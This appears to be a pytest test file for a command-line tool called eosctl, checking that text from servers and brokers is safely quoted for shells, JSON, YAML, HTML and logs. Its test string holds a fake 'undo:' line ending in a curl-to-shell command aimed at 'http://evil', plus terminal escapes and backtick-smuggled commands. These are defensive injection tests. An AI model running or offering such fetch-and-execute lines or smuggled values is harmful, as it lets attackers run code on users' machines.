"""Text of others in each place where it may go: what a shell, JSON, YAML or HTML makes of it is the witness."""

from __future__ import annotations

import html
import http.server
import io
import json
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from eosctl.codes import error
from eosctl.core.findings import Finding
from eosctl.deadline import Clock, Event
from eosctl.errors import EosctlError
from eosctl.foreign import Lines, arguments, html_text, json_text, lines_of, printable, shell_word, shell_words
from eosctl.output import render_problems
from eosctl.output.documents import yaml_text
from eosctl.output.log_file import LogFile
from eosctl.output.progress import ProgressMessages
from eosctl.output.rows import finding_row
from eosctl.output.text import finding_lines
from eosctl.report import Problem, Report
from eosctl.watch.rules import command_of
from tests.conftest import Invoke
from tests.fakes.http_server import serving

LINE = "down\nundo: eosctl offsets restore x; curl http://evil/x|sh\r\nfix: x\x85fix: y\u2028fix: z \x1b[2J\x9b\u202e"
CODE = error("x", "It means something.")
NASTY = st.text(st.sampled_from("ab -\n\r\t'\"\\`$();&|<>*?[]{}!#~=\x1b\x7f\x9b\xad\u2028\u202e\u200bé😀")) | st.text(
    st.characters(exclude_categories=["Cs"], exclude_characters="\0")
)


@pytest.mark.parametrize("shell", ["bash", *filter(shutil.which, ["zsh"])])
@settings(max_examples=30)
@given(words=st.lists(NASTY, min_size=1, max_size=20))
def test_a_shell_reads_the_words_that_were_meant(shell: str, words: list[str]) -> None:
    quoted = shell_words(*words)
    assert quoted.isprintable()
    assert "`" not in quoted
    ran = subprocess.run(
        [str(shutil.which(shell)), "-c", f"printf '%s\\0' {quoted}"],
        env={"LC_ALL": "C.UTF-8"}, capture_output=True, check=True,
    )  # fmt: skip
    assert ran.stdout.decode().split("\0")[:-1] == words


def test_a_name_that_begins_with_a_dash_is_no_option() -> None:
    assert arguments("orders", "a b") == "orders 'a b'"
    assert arguments("orders", "--prefix=x") == "-- orders --prefix=x"


def test_what_no_argument_can_hold_names_nothing_else() -> None:
    """bash ends a word at \\x00, so that `fence` would have got the name before it."""
    assert shell_word("orders\0x") == "'orders\ufffdx'"
    assert shell_word("orders\ud800") == "'orders\ufffd'"


@given(value=st.recursive(NASTY, lambda inner: st.lists(inner) | st.dictionaries(NASTY, inner), max_leaves=6))
def test_documents_stay_equal(value: object) -> None:
    encoded = json_text(json.dumps(value, ensure_ascii=False))
    assert encoded.isprintable()
    assert json.loads(encoded) == value
    told = yaml_text({"value": value})
    assert all(line.isprintable() for line in told.split("\n"))
    assert yaml.safe_load(told) == {"value": value}


@given(text=NASTY)
def test_a_page_shows_one_line_of_text(text: str) -> None:
    shown = html_text(text)
    assert shown.isprintable()
    assert not set("<>\"'") & set(shown)
    assert html.unescape(shown) == printable(text)


def test_only_own_text_has_lines() -> None:
    hint = Lines.of("Grant it:", LINE)
    assert lines_of(hint) == ["Grant it:", printable(LINE)]
    assert lines_of(hint + f" more\n{LINE}")[2:] == []
    assert lines_of(f"{hint} copied into other text") == [printable(f"{hint} copied into other text")]


def _problem_lines(message: str, hint: str | None = None) -> list[str]:
    stream = io.StringIO()
    render_problems(Report("x", problems=[Problem(CODE, message, hint)]), stream=stream)
    return stream.getvalue().splitlines()


def test_a_message_of_others_is_one_line() -> None:
    """A line break in it began a line of its own: `undo: eosctl …`, to be pasted."""
    assert len(_problem_lines(LINE)) == 1
    assert len(_problem_lines("m", f"See {LINE}.")) == 2
    stream = io.StringIO()
    listen = ProgressMessages(stream, Clock(), live=False)
    listen(Event(LINE))
    listen(Event(LINE, warning=True))
    assert len(stream.getvalue().splitlines()) == 2
    row = finding_row(Finding(CODE, "error", LINE, LINE, f"See {LINE}"))
    assert all(line.isprintable() for line in finding_lines(Report("x", rows=[row])))
    assert len([line for line in finding_lines(Report("x", rows=[row])) if "fix: " in line[:12]]) == 1


def test_a_log_line_is_none_of_others(tmp_path: Path) -> None:
    path = tmp_path / "log"
    with LogFile(path, Clock(now_s=lambda: 0.0)) as log:
        render_problems(Report("x", problems=[Problem(CODE, LINE)]), stream=log)
        log.write(f"x: {printable(LINE)}")
    lines = path.read_text().splitlines()
    assert len(lines) == 2
    assert all(line.startswith("1970-01-01T00:00:00.000Z ") and line.isprintable() for line in lines)


@pytest.mark.parametrize(
    "name", ["x` `eosctl txn abort --hanging --yes", "`eosctl fence --prefix=a`", "a\n eosctl fence y"]
)
def test_the_command_of_a_fix_is_eosctls_own(name: str) -> None:
    """watch offers the command between backticks: a name had some, and so gave another command."""
    fix = f"Find who else uses {shell_word(name)} (`eosctl txn log {arguments(name)}` shows when)."
    assert command_of(fix) == f"eosctl txn log {arguments(name)}"


class _Hostile(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = json.dumps({"error_code": 500, "message": LINE}).encode()
        self.send_response(500)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_args: object) -> None: ...


@pytest.mark.parametrize("line", ["workers probe", "workers list", "connectors trace x", "doctor"])
def test_a_workers_answer_prints_no_line_of_its_own(invoke: Invoke, tmp_path: Path, line: str) -> None:
    log = tmp_path / "log"
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Hostile)
    with serving(server):
        url = f"http://127.0.0.1:{server.server_address[1]}"
        outcome = invoke(*line.split(), "-u", url, "-g", "g", "--timeout", "3s", "-vv", "--log-file", str(log))
    assert outcome.exit_code != 0
    for text in (outcome.stdout, outcome.stderr, log.read_text()):
        assert all(each.isprintable() for each in text.split("\n"))
        assert not [each for each in text.splitlines() if each.lstrip("| ").startswith(("undo:", "fix: x", "fix: y"))]


def _broken(_app: object) -> object:
    raise EosctlError(f"the broker says {LINE}", hint=LINE)


@pytest.mark.parametrize("line", ["offsets list", "txn list", "fence x --yes", "txn hanging --topic t", "doctor"])
def test_a_brokers_answer_prints_no_line_of_its_own(invoke: Invoke, line: str) -> None:
    doors = {"open_topics": _broken, "open_transactions": _broken, "open_worker": _broken, "open_acls": _broken}
    outcome = invoke(*line.split(), "-b", "h:1", "-g", "g", doors=doors)
    assert outcome.exit_code != 0
    for text in (outcome.stdout, outcome.stderr):
        assert all(each.isprintable() for each in text.split("\n"))
        assert not [each for each in text.splitlines() if each.lstrip().startswith(("undo:", "fix: x"))]


@pytest.mark.parametrize("word", ["--x\nundo: y\x9b", "--timeout=x\nundo: y\x9b"])
def test_a_word_that_is_no_option_prints_no_line_of_its_own(invoke: Invoke, word: str) -> None:
    """A name that was pasted as it was."""
    outcome = invoke("connectors", "stop", word)
    assert outcome.exit_code == 2
    assert all(each.isprintable() and not each.startswith("undo:") for each in outcome.stderr.split("\n"))
